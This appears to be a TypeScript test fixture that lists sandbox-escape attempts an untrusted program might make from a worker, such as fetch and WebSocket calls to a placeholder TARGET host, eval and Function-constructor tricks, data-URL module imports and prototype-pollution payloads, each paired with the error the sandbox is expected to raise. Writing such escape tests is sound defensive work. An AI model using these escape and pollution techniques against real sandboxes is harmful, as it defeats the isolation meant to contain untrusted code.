// What a stranger's program may try to get out of its box, one text for each attempt: it says as its name what came of it. `TARGET` is the
// address of a server that counts whoever comes.

export interface Attack {
  readonly what: string;
  readonly text: string;
  /** What it must say. */
  readonly says: RegExp;
}

/** The program's name is the value of the expression, or what it threw. */
export function attempt(expression: string): string {
  return `let said; try { said = String(${expression}); } catch (error) { said = String(error?.message ?? error); }
program({ name: said, start: () => ({}) });`;
}

const NETWORK = /^A program has no network/;
const CODE = /^A program is one text/;
const STORAGE = /^A program cannot store anything/;
const PAGE = /^A program has no page/;
const TIME = /^A program cannot read the time/;
const CHANCE = /^A program has no dice/;
const FROZEN =
  /^(unchanged|Cannot|can't|"?\w+"? is|.*(read[- ]only|not extensible|non-extensible|non-configurable|immutable prototype|cannot be changed))/i;

const expressions: readonly (readonly [what: string, expression: string, says: RegExp])[] = [
  ['fetch', "fetch('TARGET')", NETWORK],
  ['XMLHttpRequest', 'new XMLHttpRequest()', NETWORK],
  ['WebSocket', "new WebSocket('TARGET'.replace('http', 'ws'))", NETWORK],
  ['EventSource', "new EventSource('TARGET')", NETWORK],
  ['WebTransport', "new WebTransport('TARGET')", NETWORK],
  ['WebRTC', 'new RTCPeerConnection()', NETWORK],
  ['a beacon', "navigator.sendBeacon('TARGET')", PAGE],
  ['a module', "(import('TARGET/module.js').catch(() => 0), 'asked')", /^asked$/],
  ['a module of the site', "(import('SITE').catch(() => 0), 'asked')", /^asked$/],
  [
    'a module in an address',
    "(import('data:text/javascript,fetch(`TARGET`)').catch(() => 0), 'asked')",
    /^asked$/,
  ],
  ['importScripts', "importScripts('TARGET/script.js')", CODE],
  ['a worker', "new Worker('TARGET/worker.js')", CODE],
  ['a worker of a blob', "new Worker(URL.createObjectURL(new Blob(['1'])))", CODE],
  ['a shared worker', "new SharedWorker('TARGET/worker.js')", CODE],
  ['WebAssembly', 'new WebAssembly.Memory({ initial: 1, shared: true })', CODE],
  ['eval', "eval('1 + 1')", CODE],
  ['eval by another name', "(0, eval)('1 + 1')", CODE],
  ['Function', "Function('return 1')()", CODE],
  ['a function’s constructor', "(function () {}).constructor('return 1')()", CODE],
  ['an async function’s constructor', "(async () => {}).constructor('return 1')()", CODE],
  ['a generator’s constructor', "Reflect.construct((function* () {}).constructor, ['return 1'])", CODE],
  ['an async generator’s constructor', "(async function* () {}).constructor('return 1')()", CODE],
  ['a method’s constructor', "program.constructor('return 1')()", CODE],
  ['a text as a timer', "setTimeout('fetch(`TARGET`)')", /^A program has only the timers/],
  ['indexedDB', "indexedDB.open('x')", STORAGE],
  ['caches', "caches.open('x')", STORAGE],
  ['cookies', "document.cookie = 'a=1'", PAGE],
  ['localStorage', 'localStorage.a = 1', STORAGE],
  ['BroadcastChannel', "new BroadcastChannel('lamplight/main/room')", NETWORK],
  ['a message to the page', "postMessage('x')", NETWORK],
  ['another place', "location.href = 'TARGET'", PAGE],
  ['the global scope’s place', "self.location.replace('TARGET')", PAGE],
  ['the date', 'Date.now()', TIME],
  ['the date, newly made', 'new Date().getTime()', TIME],
  ['performance', 'performance.now()', TIME],
  ['chance', 'Math.random()', CHANCE],
  ['crypto', 'crypto.getRandomValues(new Uint8Array(1))', CHANCE],
  ['the language of the place', '(1.5).toLocaleString()', /^Languages and places/],
  ['Intl', 'new Intl.DateTimeFormat().format()', /^Languages and places/],
  ['shared memory', 'new SharedArrayBuffer(8)', /^A program cannot share memory/],
  ['waiting', 'Atomics.wait', /^A program cannot share memory/],
  ['freed memory', 'new WeakRef({})', /^A program cannot share memory/],
  ['the console', "console.log('x')", /^A program has no console/],
  ['a listener', "addEventListener('message', () => 0)", NETWORK],
  [
    'what is left of the worker',
    `(() => {
      const found = new Set();
      for (let at = globalThis; at && at !== Object.prototype; at = Object.getPrototypeOf(at))
        for (const key of Reflect.ownKeys(at)) {
          const { value, get } = Object.getOwnPropertyDescriptor(at, key);
          let isMissing = false;
          try { if (get) get.call(globalThis); } catch (error) { isMissing = / program |Languages/.test(error.message); }
          if (!isMissing && !KEPT.has(String(key))) found.add(String(key));
        }
      return 'left: ' + [...found].join();
    })()`,
    /^left: $/,
  ],
  ['pollution of objects', "(Object.prototype.polluted = 1, ({}).polluted ?? 'unchanged')", FROZEN],
  [
    'pollution by definition',
    "(Object.defineProperty(Object.prototype, 'polluted', { value: 1 }), ({}).polluted)",
    FROZEN,
  ],
  ['pollution of lists', "(() => { 'use strict'; Array.prototype.push = () => 0; })()", FROZEN],
  ['pollution of promises', "(() => { 'use strict'; Promise.prototype.then = () => 0; })()", FROZEN],
  ['pollution of JSON', "(() => { 'use strict'; JSON.stringify = () => '{}'; })()", FROZEN],
  ['pollution of maps', "(() => { 'use strict'; Map.prototype.get = () => 0; })()", FROZEN],
  [
    'pollution of iterators',
    "(() => { 'use strict'; Object.getPrototypeOf([].values()).next = () => 0; })()",
    FROZEN,
  ],
  [
    'pollution of errors',
    "(() => { 'use strict'; Error.prepareStackTrace = (_, sites) => sites; })()",
    FROZEN,
  ],
  [
    'a prototype of its own for objects',
    '(Object.setPrototypeOf(Object.prototype, { polluted: 1 }), ({}).polluted)',
    FROZEN,
  ],
  [
    'another Map',
    '(globalThis.Map = class {}, globalThis.Object = {}, globalThis.JSON = {}, "changed")',
    /^changed$/,
  ],
  [
    'own properties of the names of inherited ones',
    "(() => { 'use strict'; const o = {}; o.toString = () => 'own'; const e = new Error('x'); e.name = 'Mine'; return o + String(e); })()",
    /^ownMine: x$/,
  ],
  // Texts are strict: nobody may even ask.
  ['callers', "(function f() { return String(f.caller ?? 'nobody'); })()", /\bcaller\b/],
];

const KEPT = `new Set(['globalThis', 'Infinity', 'NaN', 'undefined', 'program', 'TEMPORARY', 'PERSISTENT', 'Math', ...'Object Boolean Symbol Number BigInt String RegExp Array Map Set WeakMap WeakSet ArrayBuffer DataView Int8Array Uint8Array Uint8ClampedArray Int16Array Uint16Array Int32Array Uint32Array Float16Array Float32Array Float64Array BigInt64Array BigUint64Array JSON Promise Reflect Proxy Iterator Error AggregateError EvalError RangeError ReferenceError SyntaxError TypeError URIError isFinite isNaN parseFloat parseInt decodeURI decodeURIComponent encodeURI encodeURIComponent Function eval'.split(' ')])`;

export function attacksOn(target: string, moduleOfSite: string): readonly Attack[] {
  return expressions.map(([what, expression, says]) => ({
    what,
    text: attempt(
      expression.replaceAll('TARGET', target).replaceAll('SITE', moduleOfSite).replaceAll('KEPT', KEPT),
    ),
    says,
  }));
}
